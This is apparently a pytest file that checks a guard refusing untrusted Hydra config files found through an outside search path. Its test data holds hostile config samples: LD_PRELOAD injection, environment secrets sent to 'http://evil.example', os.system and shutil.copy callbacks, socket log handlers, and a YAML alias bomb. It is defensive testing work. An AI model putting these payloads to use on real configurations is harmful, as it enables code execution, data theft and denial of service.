"""Files of groups from another folder: what they may not say to Hydra, of the environment and the store."""

from __future__ import annotations

import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hydra import compose, initialize_config_dir
from hydra._internal.config_loader_impl import ConfigLoaderImpl
from hydra.core.config_store import ConfigNode, ConfigStore
from hydra.core.global_hydra import GlobalHydra
from hydra.core.plugins import Plugins
from hydra.types import RunMode
from omegaconf import OmegaConf

from bf_command.aliases import check_aliases
from bf_command.guard import guard_hydra
from bf_index.names import TargetError
from bf_research.launcher.compose import Composer
from bf_research.launcher.hydra_private import dumps

ROOT = Path(__file__).parents[2]
MAIN = """
defaults: [_self_, optional model: null, optional own: null]
targets: []
tracking: {uri: null, experiment: batchflow}
launch: {evil: null, workers: 2}
pipeline: {}
where: here
"""


def keep_loader(monkeypatch: pytest.MonkeyPatch) -> None:
    """Have the guard that a test sets gone after it, of Hydra 1.3 or 1.4."""
    for name in {"load_configuration", "_load_configuration"} & vars(ConfigLoaderImpl).keys():
        monkeypatch.setattr(ConfigLoaderImpl, name, getattr(ConfigLoaderImpl, name))


@pytest.fixture
def composed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Any]:
    """Compose a configuration whose group ``model`` has the file of a stranger, below another folder."""
    keep_loader(monkeypatch)
    Plugins.instance()  # registers the launchers that there are
    launchers = ConfigStore.instance().repo["hydra"]["launcher"]
    options = {"_target_": "hydra_plugins.a.B", "setup": None, "address": None, "preload": []}
    node = ConfigNode("cluster.yaml", OmegaConf.create(options), "hydra/launcher", None, "tests")
    monkeypatch.setitem(launchers, "cluster.yaml", node)
    own, more = tmp_path / "conf", tmp_path / "more"
    (own / "own").mkdir(parents=True)
    (more / "model").mkdir(parents=True)

    def run(stranger: str, *said: str, main: str = "", group: str = "") -> Any:
        (own / "train.yaml").write_text(MAIN + main)
        (own / "own" / "mine.yaml").write_text(f"# @package _global_\n{group}")
        (more / "model" / "evil.yaml").write_text(f"# @package _global_\n{stranger}")
        told = [f"hydra.searchpath=[file://{more}]", "model=evil", *(["own=mine"] if group else []), *said]
        guard_hydra(own / "train.yaml", told)
        with initialize_config_dir(config_dir=str(own), version_base="1.3"):
            return compose("train", overrides=told, return_hydra_config=True)

    return run


PLACES = [
    "hydra: {run: {dir: /tmp/evil}}",
    "hydra: {run: {dir: 'a/../../evil'}}",
    "hydra: {run: {dir: '${now:../%Y}'}}",
    "hydra: {sweep: {dir: '~/evil'}}",
    "hydra: {sweep: {subdir: '../../${hydra.job.num}'}}",
    "where: ../evil\nhydra: {sweep: {dir: '${where}/${hydra.job.num}'}}",
    "hydra: {output_subdir: ../../evil}",
    "hydra: {job: {name: ../../evil}}",
    "hydra: {job_logging: {handlers: {file: {filename: /tmp/evil}}}}",
    "hydra: {job_logging: {handlers: {file: {filename: '${hydra.runtime.output_dir}/../../evil'}}}}",
]
ENVIRONMENT = [
    "hydra: {job: {env_set: {LD_PRELOAD: evil.so}}}",
    "hydra: {job: {env_copy: [HOME]}}",
    "where: ${oc.env:HOME}",
    "where: http://evil.example/${oc.env:HOME}",
    "launch: {evil: oc.env}\nwhere: '${${launch.evil}:HOME}'",
    "launch: {evil: '$'}\nwhere: \"${oc.decode:'${launch.evil}{oc.env:HOME}'}\"",
    "hydra: {sweeper: {params: {where: '${oc.env:HOME}'}}}",
]
STEPS = [
    "pipeline: {train: [{dump: {dst: /tmp/evil.csv, fmt: csv}}]}",
    "pipeline: {train: [{repeat: {times: 2, steps: [{dump: ['../../evil']}]}}]}",
    "pipeline: {test: [{save_model: {name: net, path: '~/evil.bfm'}}]}",
    "pipeline: {test: [{save_model: {name: net, path: \"='/tmp' + '/evil'\"}}]}",
]
STORES = [
    "tracking: {uri: 'http://evil.example'}",
    "tracking: {uri: '${where}'}\nwhere: databricks://evil",
    "tracking: {uri: 'sqlite:////tmp/evil.db'}",
    "tracking: {uri: 'file:../../evil'}",
    "tracking: {mlflow: {uri: 'http://evil.example'}}",
    "tracking: {csv: {folder: /tmp/evil}}",
    "tracking: {tensorboard: {folder: ../../evil}}",
    "tracking: {wandb: {mode: online}}",
    "tracking: {wandb: {mode: '${where}'}}\nwhere: online",
]


@pytest.mark.parametrize("text", [*PLACES, *ENVIRONMENT, *STORES, *STEPS])
def test_places_environment_and_stores(composed, text, monkeypatch):
    monkeypatch.setenv("HOME", "/home/me/a-secret")
    with pytest.raises(TargetError, match=r"is refused: .*no file that comes with the program says it"):
        composed(text)
    # who copies the file into his own folder trusts it
    if "job: {name" not in text and "{mode: '$" not in text:
        composed(text, group=text)


@pytest.mark.parametrize(
    "text",
    [
        "hydra: {run: {dir: 'outputs/${where}/${now:%H}'}}",
        "hydra: {sweep: {dir: multirun/theirs, subdir: '${hydra.job.num}-${hydra.job.override_dirname}'}}",
        "hydra: {job_logging: {root: {level: '${where}'}}}\nwhere: INFO",
        "tracking: {uri: 'sqlite:///theirs.db'}",
        "tracking: {csv: {folder: theirs}, wandb: {mode: offline}}",
        "where: ${launch.workers}",
        "pipeline: {train: [{dump: {dst: out/them.csv, fmt: csv}}, {scale: {factor: \"=V('x')\"}}]}",
    ],
)
def test_places_environment_and_stores_of_good_files(composed, text):
    composed(text)


def test_places_environment_and_stores_that_the_person_says(composed, monkeypatch):
    monkeypatch.setenv("SCRATCH", "/scratch/me")
    composed("hydra: {run: {dir: '${where}/x'}}", "where=/data/me")
    composed(
        "hydra: {run: {dir: '${where}/x'}}",
        main="scratch: ${oc.env:SCRATCH}/runs\n",
        group="where: ${scratch}",
    )
    composed("launch: {workers: 3}", "hydra.run.dir=/data/me/${now:%H}", "tracking.uri=http://mine:5000")
    composed("tracking: {wandb: {mode: offline}}", "tracking.wandb.mode=online")
    composed("launch: {workers: 3}", "where=../../../data")
    composed("launch: {workers: 3}", "where=${oc.env:SCRATCH}")
    with pytest.raises(TargetError, match=r"hydra\.run\.dir: '/data/me2/x' is refused"):
        composed("hydra: {run: {dir: /data/me2/x}}", "where=/data/me")


SWEPT = [
    "tracking.uri='http://evil.example'",
    "tracking.wandb={mode:online,entity:evil}",
    "tracking.wandb.entity=evil",
    "tracking.csv={folder:/tmp/evil}",
    "where='http://evil.example'",
    "mode=online",
    "pipeline.train=[{dump:{dst:/tmp/evil.csv,fmt:csv}}]",
    "pipeline.mean='${oc.env:HOME}'",
]


@pytest.fixture
def composer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Composer]:
    """Return what makes the jobs of a sweep, with a stranger's file that leads by references."""
    keep_loader(monkeypatch)
    more = "tracking: {uri: '${where}', csv: {folder: out}, wandb: {mode: '${mode}', entity: null}}\n"
    (tmp_path / "train.yaml").write_text(
        f"mode: offline\nwhere: here\npipeline: {{mean: 0, train: []}}\n{more}"
    )

    def make(*said: str) -> Composer:
        guard_hydra(tmp_path / "train.yaml", said)
        with initialize_config_dir(config_dir=str(tmp_path), version_base="1.3"):
            loader = GlobalHydra.instance().config_loader()
            overrides = ["hydra.sweep.dir=out", *said]
            return Composer(loader, loader.load_configuration("train", overrides, RunMode.MULTIRUN))

    return make


@pytest.mark.parametrize("swept", SWEPT)
def test_jobs_of_a_sweep(composer, swept, monkeypatch):
    made = composer()
    job = [swept, "hydra.sweep.subdir=a1"]
    with pytest.raises(TargetError, match=r"is refused: .*no file that comes with the program says it"):
        made.compose(job)
    with pytest.raises(TargetError, match="is refused"):
        made.check(job)
    monkeypatch.undo()  # as in a worker, where nobody guards Hydra
    worker = pickle.loads(dumps(made))
    with pytest.raises(TargetError, match="is refused"):
        worker.compose(job)
    assert worker.compose(["where=there", "hydra.sweep.subdir=a2"]).tracking.uri == "there"


def test_jobs_of_a_sweep_that_the_person_asked_for(composer):
    made = composer("tracking.uri=http://mine:5000,mine.db", "tracking.wandb.mode=online")
    job = ["tracking.uri=http://mine:5000", "tracking.wandb.mode=online", "pipeline.mean=0.5"]
    assert made.compose(job).tracking.uri == "http://mine:5000"
    made.check(job)


NAMES = [
    ("hydra: {overrides: {task: ['targets=[os]']}}", r"overrides\.task"),
    ("launch: {evil: {_target_: shutil.copy}}\nhydra: {callbacks: {a: '${launch.evil}'}}", r"a\._target_"),
    ("launch: {a: {_target_: shutil.copy}}\nhydra: {callbacks: '${launch}'}", r"callbacks\.a\._target_"),
    ("hydra: {callbacks: {a: '${hydra:job.num}'}}", r"callbacks\.a"),
    ("hydra: {callbacks: {a: {_target_: bf_research.own_files.os.mkdir}}}", r"callbacks\.a\._target_"),
    (
        "hydra: {sweeper: {params: {a: {_target_: hydra._internal.core_plugins.bash_completion.os.mkdir}}}}",
        r"params\.a\._target_",
    ),
    ("hydra: {sweeper: {params: {hydra.job.chdir: true}}}", r"sweeper\.params"),
    (
        "launch: {evil: {class: shutil.copy}}\nhydra: {job_logging: {handlers: {a: '${launch.evil}'}}}",
        r"handlers\.a\.class",
    ),
    ("hydra: {job_logging: {handlers: {a: {stream: '${launch.workers}'}}}}", r"handlers\.a\.stream"),
    (
        "hydra: {job_logging: {handlers: {a: {class: logging.handlers.SocketHandler, host: evil}}}}",
        r"handlers\.a\.class",
    ),
    (
        "hydra: {job_logging: {handlers: {a: {class: logging.handlers.QueueHandler, queue: evil.x}}}}",
        r"handlers\.a\.class",
    ),
    ("hydra: {launcher: {setup: [touch evil]}}", r"launcher\.setup\.0"),
    ("launch: {evil: 'ray://evil'}\nhydra: {launcher: {address: '${launch.evil}'}}", r"launcher\.address"),
    # the name of the group is not said to be imported
    ("hydra: {launcher: {preload: [evil]}}", r"launcher\.preload\.0"),
]


@pytest.mark.parametrize(("text", "key"), NAMES)
def test_what_hydra_makes_by_way_of_references(composed, text, key):
    with pytest.raises(TargetError, match=rf"^hydra\.[\w.]*{key}.* is refused"):
        composed(text, "hydra/launcher=cluster")


@pytest.mark.parametrize(
    "text",
    [
        "hydra: {overrides: {task: ['targets=[os,posix]']}}\ntargets: [os, posix]\n"
        "model: {_target_: bf_models.MLP, body: {_target_: os.system, command: CANARY}}",
        "launch: {evil: {_target_: shutil.copy, src: /etc/hostname, dst: FILE}}\n"
        "hydra: {callbacks: {evil: '${launch.evil}'}}",
    ],
    ids=["overrides", "references"],
)
def test_a_group_that_speaks_for_the_command(canary, run_script, tmp_path, text):
    folder = tmp_path / "more" / "experiment"
    folder.mkdir(parents=True)
    text = text.replace("CANARY", canary.command).replace("FILE", str(canary.path))
    (folder / "evil.yaml").write_text(f"# @package _global_\n{text}\n")
    done = run_script(f"""
        import runpy, sys
        sys.argv = ["train.py", "--config-dir={tmp_path / "more"}", "experiment=evil", "tracking=none"]
        runpy.run_path({str(ROOT / "train.py")!r}, run_name="__main__")
    """)
    assert done.code == 1
    assert "is refused" in done.err


def test_aliases_inside_aliases(run_script, tmp_path):
    folder = tmp_path / "more" / "experiment"
    folder.mkdir(parents=True)
    levels = "".join(f"  a{k}: &a{k} [{', '.join([f'*a{k - 1}'] * 9)}]\n" for k in range(1, 12))
    (folder / "evil.yaml").write_text(f"# @package _global_\nlaunch:\n  a0: &a0 x\n{levels}")
    done = run_script(f"""
        import resource, runpy, sys
        resource.setrlimit(resource.RLIMIT_AS, (8 << 30, 8 << 30))
        sys.argv = ["train.py", "--config-dir={tmp_path / "more"}", "experiment=evil", "tracking=none"]
        runpy.run_path({str(ROOT / "train.py")!r}, run_name="__main__")
    """)
    assert done.code == 1
    assert "evil.yaml: by its aliases (*name) it has more than 100,000 parts" in done.err


def test_aliases_of_good_files():
    check_aliases("a: &a [1, 2]\nb: [*a, *a]\nc: {<<: *a}", "good.yaml")
    check_aliases("a: '&'\nb: 2 ** 3\n", "good.yaml")
    with pytest.raises(ValueError, match=r"bad\.yaml: by its aliases"):
        check_aliases("a: &a [*a]", "bad.yaml")


def test_a_run_that_is_taken_again_from_its_pickle(canary, run_script, tmp_path):
    import pickle

    (tmp_path / "config.pickle").write_bytes(pickle.dumps(canary.pickled))
    done = run_script(f"""
        import runpy, sys
        sys.argv = ["train.py", "--experimental-rerun={tmp_path / "config.pickle"}"]
        runpy.run_path({str(ROOT / "train.py")!r}, run_name="__main__")
    """)
    assert done.code == 2
    assert "--config-dir=RUN/.hydra" in done.err


@pytest.mark.parametrize(
    "sweeper",
    [
        "domain: [{tracking.wandb: [{folder: /tmp/elsewhere, mode: online, entity: attacker}]}]",
        "domain: [{tracking.csv: [{folder: /tmp/elsewhere}]}]",
        "params: {tracking.wandb.mode: online, tracking.wandb.entity: attacker}",
    ],
)
def test_a_sweep_of_a_stranger_that_sends_runs_away(run_script, tmp_path, sweeper):
    folder = tmp_path / "more" / "research"
    folder.mkdir(parents=True)
    (folder / "evil.yaml").write_text(f"""# @package _global_
defaults: [override /launch: gpu, override /tracking: wandb]
hydra: {{sweeper: {{{sweeper}}}}}
""")
    done = run_script(f"""
        import runpy, sys
        sys.argv = ["train.py", "-m", "--config-dir={tmp_path / "more"}", "research=evil", "n_iters=1"]
        runpy.run_path({str(ROOT / "train.py")!r}, run_name="__main__")
    """)
    assert done.code == 1
    assert "is refused: a sweep does not say whom to trust, nor where runs are recorded" in done.err
